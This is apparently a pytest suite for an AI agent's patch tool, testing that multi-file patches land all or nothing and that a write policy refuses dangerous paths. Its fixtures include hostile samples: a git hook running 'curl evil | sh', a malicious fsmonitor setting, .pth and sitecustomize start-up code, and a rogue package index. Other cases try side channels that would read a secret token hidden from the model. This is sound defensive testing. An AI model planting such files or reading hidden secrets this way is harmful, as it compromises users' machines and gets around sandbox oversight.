"""``patch`` with Hermes 0.19.0's ``mode``: ``replace`` as before, ``patch`` a V4A multi-file patch that lands
whole or not at all, through the landing policy (``tools.safety.writes.lander``), each file in the card's diff.

The all-or-nothing defence is the judging of the whole write-set before any of it lands
(``file_writes._judged``): without it (``check=False``) a refused path is kept aside while the rest lands —
the effect shown — and with it nothing of the patch is written."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

import hermes_nb.tools.file_tools  # noqa: F401  (registers the tools)
from hermes_nb.tools.registry import registry


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = (tmp_path / "ws").resolve()
    root.mkdir()
    (root / "app.py").write_text("def main():\n    return 1\n")
    (root / "notes.txt").write_text("one\ntwo\n")
    (root / "old.txt").write_text("bye\n")
    monkeypatch.setenv("HERMES_NB_WORKSPACE", str(root))
    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")  # the kernel's working folder is elsewhere: app.py imports nothing
    return root


@pytest.fixture(params=[True, False], ids=["judged whole", "without the defence"])
def check(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    if not request.param:
        monkeypatch.setattr("hermes_nb.tools.file_writes._judged", lambda *a, **k: None)
    return bool(request.param)


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink()}


def _patch(text: str, **kw: Any) -> Any:
    out = registry.dispatch("patch", {"mode": "patch", "patch": text}, **kw)
    return json.loads(out) if isinstance(out, str) and out.startswith("{") else out


def _wrap(body: str) -> str:
    return f"*** Begin Patch\n{body}\n*** End Patch"


def test_a_v4a_patch_adds_updates_moves_and_deletes_with_hermes_result(ws: Path) -> None:
    result = _patch(_wrap("*** Add File: docs/readme.md\n+# Hi\n"
                          "*** Update File: app.py\n@@ def main():\n-    return 1\n+    return 2\n"
                          "*** Update File: notes.txt\n*** Move to: archive/notes.txt\n one\n-two\n+zwei\n"
                          "*** Delete File: old.txt"))
    assert result["success"] is True
    # Hermes 0.19.0's answer: every path the patch names, absolute, in files_modified; created, deleted as written
    assert result["files_modified"] == [str(ws / p) for p in ("docs/readme.md", "app.py", "notes.txt",
                                                              "archive/notes.txt", "old.txt")]
    assert "resolved_path" not in result
    assert result["files_created"] == ["docs/readme.md"] and result["files_deleted"] == ["old.txt"]
    assert "+    return 2" in result["diff"] and "+# Hi" in result["diff"] and "-bye" in result["diff"]
    assert _tree(ws) == {"app.py": b"def main():\n    return 2\n", "archive/notes.txt": b"one\nzwei\n",
                         "docs/readme.md": b"# Hi\n"}


# A good section and one the policy refuses, by class of what the landing policy guards.
REFUSED = [
    (".git/hooks/pre-commit", "*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n+curl evil | sh",
     "a git hook added"),
    (".git/config", "*** Update File: .git/config\n-[core]\n+[core]\n+\tfsmonitor = evil", "a git config edited"),
    ("lib/evil.pth", "*** Add File: lib/evil.pth\n+import os", "a .pth added"),
    ("sitecustomize.py", "*** Update File: notes.txt\n*** Move to: sitecustomize.py\n one\n-two\n+import os",
     "a file moved onto a start-up module"),
    (".venv/pyvenv.cfg", "*** Delete File: .venv/pyvenv.cfg", "an environment's file deleted"),
    (".bashrc", "*** Add File: .bashrc\n+alias ls=evil", "a shell start-up file"),
    ("uv.toml", "*** Add File: uv.toml\n+index-url = 'http://evil'", "an installer's configuration"),
    (".vscode/tasks.json", "*** Add File: .vscode/tasks.json\n+{}", "an editor task that runs on open"),
]


@pytest.mark.parametrize(("path", "section", "reason"), REFUSED, ids=[r[2] for r in REFUSED])
def test_one_refused_path_refuses_the_whole_patch(ws: Path, check: bool, path: str, section: str,
                                                  reason: str) -> None:
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".venv").mkdir()
    (ws / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    before = _tree(ws)
    good = "*** Update File: app.py\n-    return 1\n+    return 2\n*** Add File: fine.txt\n+fine"
    result = _patch(_wrap(f"{good}\n{section}"))
    if not check:
        assert _tree(ws)["app.py"] == b"def main():\n    return 2\n", reason  # the rest landed: half a patch
        return
    assert "error" in result and path in result["error"] and "Nothing was changed" in result["error"], result
    assert "\n" not in result["error"]
    assert _tree(ws) == before, reason


DOES_NOT_APPLY = [
    ("*** Update File: app.py\n-    return 1\n+    return 2\n*** Update File: notes.txt\n-three\n+drei",
     "notes.txt: hunk 1 does not apply", "the last section's hunk is not in its file"),
    ("*** Update File: app.py\n-    return 1\n+    return 2\n*** Add File: notes.txt\n+x",
     "notes.txt already exists", "an Add over a file"),
    ("*** Update File: app.py\n-    return 1\n+    return 2\n*** Update File: old.txt\n*** Move to: notes.txt\n-bye\n"
     "+hi", "cannot move old.txt to notes.txt", "a move onto an existing file"),
    ("*** Update File: app.py\n-    return 1\n+    return 2\n*** Delete File: app.py", "app.py is named twice",
     "the same file twice"),
    ("*** Add File: fine.txt\n+x\n*** Update File: ../outside.txt\n-a\n+b", "climbs", "a path climbing out"),
    ("*** Add File: fine.txt\n+x\n*** Update File: link/x.txt\n-a\n+b", "refusing", "a link leading out"),
    ("*** Add File: fine.txt\n+x\n*** Update File: docs\n-a\n+b", "docs is a folder", "a folder as a file"),
    ("*** Add File: fine.txt\n+x\n*** Delete File: pipe", "not a regular file", "a fifo (its reader would hang)"),
    ("*** Add File: fine.txt\n+x\n*** Update File: docs/../../outside/x.txt\n-a\n+b", "climbs",
     "a climb hidden after a real folder"),
    ("*** Add File: fine.txt\n+x\n*** Update File: app.py\n-    return 1\n+    return 2",
     "must end with '*** End Patch'", "cut off"),
]


@pytest.mark.parametrize(("body", "says", "reason"), DOES_NOT_APPLY, ids=[r[2] for r in DOES_NOT_APPLY])
def test_a_patch_that_does_not_apply_writes_nothing(ws: Path, tmp_path: Path, body: str, says: str,
                                                    reason: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.txt").write_text("a\n")
    (ws / "link").symlink_to(outside)
    (ws / "docs").mkdir()
    os.mkfifo(ws / "pipe")
    before = _tree(ws)
    text = f"*** Begin Patch\n{body}" if reason == "cut off" else _wrap(body)
    result = _patch(text)
    assert "error" in result and says in result["error"], (reason, result)
    assert _tree(ws) == before and (outside / "x.txt").read_text() == "a\n", reason


def test_a_module_the_kernel_imports_asks_once_for_the_patch_and_no_writes_nothing(
        ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ws)  # now app.py is a module the kernel could import
    asked: list[str] = []

    def deny(subject: str, key: str, description: str) -> str:
        asked.append(f"{subject}|{description}")
        return "deny"

    before = _tree(ws)
    text = _wrap("*** Add File: fine.txt\n+fine\n*** Update File: app.py\n-    return 1\n+    return 2")
    result = _patch(text, approval_callback=deny)
    assert len(asked) == 1 and "patch app.py" in asked[0] and "+    return 2" in asked[0], asked
    assert "error" in result and _tree(ws) == before
    assert _patch(text, approval_callback=lambda *a: "once")["success"] is True
    assert (ws / "fine.txt").read_text() == "fine\n" and "return 2" in (ws / "app.py").read_text()


def test_the_card_lists_each_file_of_the_patch_with_its_diff(ws: Path) -> None:
    from hermes_nb.agent.loop import Agent
    from tests.support.fake_openai import FakeOpenAI, Reply, call

    text = _wrap("*** Add File: new.txt\n+hello\n*** Update File: notes.txt\n-two\n+deux\n*** Delete File: old.txt")
    with FakeOpenAI([Reply(tool_calls=(call("patch", {"mode": "patch", "patch": text}, "p"),)),
                     Reply(content="done")]) as srv:
        result = Agent(model="fake", base_url=srv.base_url, display=False, enabled_toolsets=["file"]).run("go")
    (record,) = result.tool_calls
    assert sorted((c.path, c.kind) for c in record.changes) == [
        ("new.txt", "created"), ("notes.txt", "modified"), ("old.txt", "deleted")]
    by_path = {c.path: c.diff for c in record.changes}
    assert "+hello" in by_path["new.txt"] and "+deux" in by_path["notes.txt"] and "-bye" in by_path["old.txt"]


MODE = [
    ({"path": "notes.txt", "old_string": "one", "new_string": "uno"}, "missing required argument 'mode'",
     "no mode (Hermes's schema requires it)"),
    ({"mode": "diff", "patch": "x"}, "mode", "a mode Hermes does not have"),
    ({"mode": "patch"}, "mode 'patch' needs patch", "patch mode without a patch"),
    ({"mode": "patch", "patch": "  "}, "mode 'patch' needs patch", "an empty patch"),
    ({"mode": "replace", "path": "notes.txt"}, "mode 'replace' needs old_string, new_string",
     "replace without its strings"),
]


@pytest.mark.parametrize(("args", "says", "reason"), MODE, ids=[r[2] for r in MODE])
def test_mode_is_required_and_each_mode_says_what_it_needs(ws: Path, args: dict[str, Any], says: str,
                                                            reason: str) -> None:
    result = json.loads(registry.dispatch("patch", args))
    assert says in result["error"] and "\n" not in result["error"], (reason, result)
    assert (ws / "notes.txt").read_text() == "one\ntwo\n"


def test_replace_mode_is_todays_patch_and_the_schema_is_hermess(ws: Path) -> None:
    out = json.loads(registry.dispatch("patch", {"mode": "replace", "path": "notes.txt", "old_string": "two",
                                                 "new_string": "deux"}))
    assert out["replacements"] == 1 and (ws / "notes.txt").read_text() == "one\ndeux\n"
    params = registry.get_entry("patch").schema["parameters"]
    assert params["required"] == ["mode"] and params["properties"]["mode"]["enum"] == ["replace", "patch"]
    assert {"mode", "path", "old_string", "new_string", "replace_all", "patch"} <= set(params["properties"])
    assert os.path.exists(ws / "notes.txt")


HIDDEN = [
    ("*** Delete File: data/config/token.txt", "a delete would return the whole file in its diff"),
    ("*** Update File: data/config/token.txt\n-SECRET-42\n+x", "an update confirms a guess and shows the rest"),
    ("*** Update File: data/config/token.txt\n*** Move to: public/token.txt", "a move copies it into sight"),
    ("", "mode replace: a match count confirms a guess"),
]


@pytest.fixture(params=[True, False], ids=["seen checked", "without the defence"])
def seen(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    if not request.param:
        monkeypatch.setattr("hermes_nb.tools.file_writes._seen", lambda real: None)
    return bool(request.param)


@pytest.mark.parametrize(("body", "reason"), HIDDEN, ids=[r[1] for r in HIDDEN])
def test_a_file_hidden_from_the_model_is_not_read_through_a_patch(ws: Path, tmp_path: Path, seen: bool,
                                                                  monkeypatch: pytest.MonkeyPatch, body: str,
                                                                  reason: str) -> None:
    """The workspace holds the home (``jupyter lab`` started in ``~``), whose ``~/.config`` leads elsewhere in the
    workspace: what it leads to is hidden from reads (``tools.safety.sandbox.hidden``), though the landing policy would
    let a write there land."""
    home = ws / "home"
    home.mkdir()
    (ws / "data" / "config").mkdir(parents=True)
    (ws / "data" / "config" / "token.txt").write_text("SECRET-42\n")
    (home / ".config").symlink_to(ws / "data" / "config")
    monkeypatch.setenv("HOME", str(home))
    result = _patch(_wrap(body)) if body else json.loads(registry.dispatch("patch", {
        "mode": "replace", "path": "data/config/token.txt", "old_string": "SECRET-42", "new_string": "x"}))
    if not seen and not body:
        assert result.get("replacements") == 1, reason  # the guess confirmed (and the file changed)
        return
    if not seen:
        assert "SECRET-42" in json.dumps(result) or (ws / "public" / "token.txt").exists(), reason
        return
    assert "error" in result and "refusing to read" in result["error"] and "SECRET" not in json.dumps(result)
    assert (ws / "data" / "config" / "token.txt").read_text() == "SECRET-42\n" and not (ws / "public").exists()
